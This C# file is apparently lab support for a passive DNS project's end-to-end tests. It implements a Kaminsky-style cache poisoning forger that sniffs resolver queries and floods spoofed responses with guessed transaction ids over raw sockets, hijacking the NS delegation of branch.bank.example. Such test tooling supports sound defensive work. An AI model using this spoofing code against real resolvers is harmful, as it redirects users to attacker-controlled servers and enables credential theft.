using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using PassiveDns.Formats.Dns;
using PassiveDns.Tests.Support;

namespace PassiveDns.EndToEnd.Tests.Laboratory;

/// <summary>Races an honest server for names that begin with "race" (Kaminsky's way): with its address, guessing ids, and at last with the right one, but late.</summary>
/// <remarks>It sits on the hub, so that it sees when the honest response has passed, and forges over a raw socket.</remarks>
public sealed class Forger : IDisposable
{
    /// <summary>Ids guessed for each query.</summary>
    public const int Guesses = 50;

    /// <summary>Whom it races and for whom.</summary>
    private const string Server = "198.51.100.21", Resolver = "192.0.2.54";

    private const int EthernetLength = 14, IPv4Length = 20, UdpLength = 8;
    private const ushort EveryProtocol = 3; // ETH_P_ALL of if_ether.h
    private const byte Udp = 17;

    private static readonly byte[] ServerOctets = IPAddress.Parse(Server).GetAddressBytes(), ResolverOctets = IPAddress.Parse(Resolver).GetAddressBytes();

    private readonly Socket _seen;
    private readonly Socket _raw;
    private readonly Listener _listener;
    private readonly byte[] _buffer = new byte[1 << 16];
    private readonly Dictionary<DnsQuestion, ushort> _open = []; // and the port that waits for the answer

    public Forger(LaboratoryNetwork network)
    {
        (_seen, _raw) = network.Do(LaboratoryNetwork.Evil, () => (
            new Socket(AddressFamily.Packet, SocketType.Raw, (ProtocolType)BinaryPrimitives.ReverseEndianness(EveryProtocol)),
            new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw)));
        _listener = new Listener(_seen, () => See(_buffer.AsSpan(0, _seen.Receive(_buffer))));
    }

    /// <summary>RRsets that only forged datagrams hold.</summary>
    public static IReadOnlyList<ServedRRset> Forged { get; } =
    [
        .. new[] { "race1", "race2", "race3" }.Select(label => new ServedRRset("branch.bank.example.", $"{label}.branch.bank.example.", "A", LaboratoryZones.Trap)),
        new("branch.bank.example.", "branch.bank.example.", "NS", LaboratoryZones.EvilServer),
        new("branch.bank.example.", "www.branch.bank.example.", "A", LaboratoryZones.Trap),
    ];

    /// <summary>Datagrams sent with a wrong id, and with the right one.</summary>
    public int WrongIds { get; private set; }

    /// <inheritdoc cref="WrongIds"/>
    public int RightIds { get; private set; }

    public void Dispose()
    {
        _listener.Dispose();
        _raw.Dispose();
    }

    private void See(ReadOnlySpan<byte> frame)
    {
        if (frame.Length < EthernetLength + IPv4Length + UdpLength + DnsHeader.Length || frame[12] != 8 || frame[13] != 0) return;
        var packet = frame[EthernetLength..];
        if (packet[0] != 0x45 || packet[9] != Udp) return;
        var source = packet.Slice(12, 4);
        var destination = packet.Slice(16, 4);
        var udp = packet[IPv4Length..];
        var message = udp[UdpLength..];
        if (source.SequenceEqual(ResolverOctets) && destination.SequenceEqual(ServerOctets)) SeeQuery(DnsQuestion.Read(message), BinaryPrimitives.ReadUInt16BigEndian(udp));
        else if (source.SequenceEqual(ServerOctets) && destination.SequenceEqual(ResolverOctets)) SeeResponse(DnsQuestion.Read(message));
    }

    private void SeeQuery(DnsQuestion question, ushort port)
    {
        if (question.Type != RRType.A || !question.Name.StartsWith("race", StringComparison.OrdinalIgnoreCase) || !_open.TryAdd(question, port)) return;
        for (var i = 1; i <= Guesses; i++) Send(question with { Id = (ushort)(question.Id + i) }, port);
        WrongIds += Guesses;
    }

    /// <summary>The honest one: what this forger sent before has other ids, and what it sends now finds the query gone.</summary>
    private void SeeResponse(DnsQuestion question)
    {
        if (!_open.Remove(question, out var port)) return;
        Send(question, port);
        RightIds++;
    }

    /// <summary>A response with the honest server's address. The system fills in the length and check sum of the IP header.</summary>
    private void Send(DnsQuestion question, ushort port)
    {
        var trap = Hex.Text(IPAddress.Parse(LaboratoryZones.Trap).GetAddressBytes());
        var response = DnsMessageBuilder.Response(question.Id, question.Name, question.Type, flags: 0x0400)
            .Answer(question.Name, RRType.A, trap)
            .Authority("branch.bank.example.", RRType.NS, DnsMessageBuilder.HexName(LaboratoryZones.EvilServer))
            .Additional("www.branch.bank.example.", RRType.A, trap);
        _raw.SendTo(FrameBuilder.IPv4(Server, Resolver, Udp, FrameBuilder.Udp(53, port, response.ToArray())), new IPEndPoint(IPAddress.Parse(Resolver), 0));
    }
}
